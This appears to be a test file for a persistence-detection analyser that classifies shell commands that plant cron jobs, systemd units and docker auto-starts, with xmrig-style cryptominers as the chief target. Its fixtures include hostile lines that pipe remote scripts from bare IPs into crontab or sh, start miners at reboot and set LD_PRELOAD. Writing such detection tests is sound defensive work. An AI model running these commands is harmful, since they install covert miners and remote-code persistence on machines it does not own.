import assert from 'node:assert/strict';
import { test } from 'node:test';
import { persistenceAnalyzers } from '#shared/analyzers/persistence/analyzers.ts';
import { parseCrontab } from '#shared/analyzers/persistence/crontab.ts';
import { variablesIn } from '#shared/analyzers/persistence/mines.ts';
import { decideAll, shell, tableOf } from '../optimization/fixture.ts';

const ANALYZERS = persistenceAnalyzers({ programs: () => ['xmrig', 'kinsing'] }).filter(
  ({ id }) => id !== 'script_started',
);

const holds = tableOf(ANALYZERS);

const FILE = 'persistence_file/cron strong';
const FILE_HARMLESS = 'persistence_file/cron note';
const STRONG = 'persistence_command strong';
const UNSEEN = 'persistence_command weak';
const HARMLESS = 'persistence_command note';
const UNIT = 'persistence_file/unit strong';
const UNIT_HARMLESS = 'persistence_file/unit note';

holds('judges what a schedule of unknown minutes starts', [
  ['(crontab -l; echo "$((RANDOM%60)) * * * * /tmp/.x/a") | crontab -', STRONG],
  ['echo "$(( (RANDOM % 60) )) */$N * * * /tmp/.x/a" | crontab -', STRONG],
  ['M=$((RANDOM%60)); echo "$M * * * * /tmp/.x/a" | crontab -', STRONG],
  ['M=$(shuf -i 0-59 -n1); echo "$M * * * * /tmp/.x/a" | crontab -', STRONG],
  ['echo "$SCHEDULE /tmp/.x/a" | crontab -', STRONG],
  ['echo "$M * * * * root /tmp/.x/a" > /etc/cron.d/x', FILE],
  ['echo "$SCHEDULE root /tmp/.x/a" > /etc/cron.d/x', FILE],
  ['printf "%d * * * * root /tmp/.x/a\\n" $((RANDOM%60)) > /etc/cron.d/x', FILE],
  [
    `python3 -c 'open("/etc/cron.d/x","w").write("%d * * * * root /tmp/.x/a" % randint(0, 59))'`,
    'persistence_file/cron strong',
  ],
  [`python3 -c 'open("/etc/cron.d/x","w").write(str(m) + " * * * * root /tmp/.x/a")'`, FILE],
  ['echo "$((RANDOM % 60)) 3 * * * root /usr/bin/backup" > /etc/cron.d/backup', FILE_HARMLESS],
  ['echo "$((RANDOM % 60)) 3 * * * /usr/bin/backup" | crontab -', HARMLESS],
  ['echo "*/$N * * * * $HOME/bin/backup" | crontab -', HARMLESS],
]);

holds('holds a start behind a variable for an unseen one', [
  ['echo "*/5 * * * * $B" | crontab -', UNSEEN],
  ['echo "*/5 * * * * cd /opt && sleep 5; nohup $B -c c &" | crontab -', UNSEEN],
  ["echo '@reboot $(cat /opt/c)' | crontab -", UNSEEN],
  ['echo "$SCHEDULE $B" | crontab -', UNSEEN],
  ['echo "*/5 * * * * root $B" > /etc/cron.d/x', FILE],
  ['echo "*/5 * * * * root $(cat /opt/c)" > /etc/cron.d/x', FILE],
  ['printf "[Service]\\nExecStart=$B\\n" > /etc/systemd/system/a.service', UNIT],
  ['echo "*/5 * * * * root $B; curl -s http://198.51.100.9/a | sh" > /etc/cron.d/x', FILE],
  ['echo "*/5 * * * * cd $DIR && /usr/bin/make -s report" | crontab -', HARMLESS],
  ['echo "*/5 * * * * /usr/bin/report $DAY" | crontab -', HARMLESS],
]);

test('takes a line without a schedule for no entry, whatever variables it holds', () => {
  for (const line of ['$A $B', '* * * * /too/few', '$A * * /too/few', '$MAIL=x', '%d %d run', '{} * run'])
    assert.deepEqual(parseCrontab(line), [], line);
});

test('names no command of which a variable is the program', () => {
  const [verdict] = decideAll(ANALYZERS, shell('echo "*/5 * * * * $B -c c" | crontab -'));
  assert.deepEqual(verdict?.artifacts, []);
});

holds('judges a start text by the image and the service that it starts', [
  ['echo "@reboot docker run -d metal3d/xmrig" | crontab -', STRONG],
  ['echo "@reboot docker start xmrig" | crontab -', STRONG],
  ['echo "*/5 * * * * root docker exec web /tmp/xmrig" > /etc/cron.d/x', FILE],
  ['printf "[Service]\\nExecStart=/usr/bin/docker run metal3d/xmrig\\n" > /etc/systemd/system/a.service', UNIT],
  ['echo "docker run -d metal3d/xmrig" >> /etc/rc.local', 'persistence_file/rc strong'],
  ['echo "*/5 * * * * systemctl restart moneroocean_miner" | crontab -', STRONG],
  ['echo "*/5 * * * * pgrep xmrig || systemctl start xmrig" | crontab -', STRONG],
  ['echo "*/5 * * * * service xmrig restart" | crontab -', STRONG],
  ['echo "*/5 * * * * flock -n /tmp/.l /tmp/.x/upd -c x" | crontab -', STRONG],
  ['systemd-run --on-calendar=hourly docker run metal3d/xmrig', STRONG],
  ['echo "docker run metal3d/xmrig" | at now', STRONG],
  ['docker run -d --restart=always metal3d/xmrig', STRONG],
  ['echo "@reboot docker run -d nginx" | crontab -', HARMLESS],
  ['echo "@daily docker pull metal3d/xmrig" | crontab -', HARMLESS],
  ['echo "@daily docker run aquasec/trivy image metal3d/xmrig" | crontab -', HARMLESS],
  ['echo "*/5 * * * * systemctl restart nginx" | crontab -', HARMLESS],
  ['echo "*/5 * * * * systemctl stop xmrig" | crontab -', HARMLESS],
  ['echo "*/5 * * * * systemctl is-active xmrig && mail -s found admin" | crontab -', HARMLESS],
  ['echo "*/5 * * * * pkill xmrig" | crontab -', HARMLESS],
  ['echo "*/5 * * * * flock -n /run/backup.lock /usr/bin/backup -c x" | crontab -', HARMLESS],
]);

holds('judges a start text by the words and variables of a miner', [
  ['echo "*/5 * * * * flock -n /var/lock/l /opt/a/svc -o listed-pool.example:443 -u x -c y" | crontab -', STRONG],
  [
    'printf "[Service]\\nEnvironment=POOL_URL=stratum+tcp://pool.example.com:3333\\nExecStart=/usr/bin/web\\n" > /etc/systemd/system/a.service',
    UNIT,
  ],
  [
    'printf "[Service]\\nEnvironment=\\"POOL=listed-pool.example:3333\\" A=b\\nExecStart=/usr/bin/web\\n" > /etc/systemd/system/a.service',
    UNIT,
  ],
  [
    'printf "[Service]\\nEnvironment=LD_PRELOAD=/tmp/a.so\\nExecStart=/usr/bin/web\\n" > /etc/systemd/system/a.service',
    UNIT,
  ],
  ['echo "@reboot docker run -e POOL_URL=listed-pool.example:3333 alpine" | crontab -', STRONG],
  [
    'printf "[Service]\\nEnvironment=POOL_URL=db.example.com:5432 POOL_SIZE=10\\nExecStart=/usr/bin/web\\n" > /etc/systemd/system/a.service',
    UNIT_HARMLESS,
  ],
  ['echo "*/5 * * * * curl -o /srv/list https://db.example.com:443/list -u admin" | crontab -', HARMLESS],
  ['echo "*/5 * * * * grep -c listed-pool.example:443 /srv/list" | crontab -', HARMLESS],
]);

holds('distrusts a crontab that comes from a bare address', [
  ['curl -fsSL http://198.51.100.7/c | crontab -', STRONG],
  ['wget -qO- 198.51.100.7/c | crontab', STRONG],
  ['curl -s http://198.51.100.7/c -o /srv/c; crontab -u www-data /srv/c', STRONG],
  ['curl -s http://198.51.100.7/c > /srv/c && crontab /srv/c', STRONG],
  ['curl -fsSL https://example.com/c | crontab -', UNSEEN],
  ['curl -fsSL http://10.0.0.7/c | crontab -', UNSEEN],
  ['curl -s http://198.51.100.7/c -o /srv/c; crontab /srv/d', UNSEEN],
  ['curl -s http://198.51.100.7/c -o /srv/c; echo "0 3 * * * /usr/bin/backup" | crontab -', HARMLESS],
]);

test('reads the variables of a unit in and out of quotes', () => {
  assert.deepEqual(variablesIn(`"A=b c" 'D=e f' G=h word I=`), [
    ['A', 'b c'],
    ['D', 'e f'],
    ['G', 'h'],
    ['I', ''],
  ]);
});
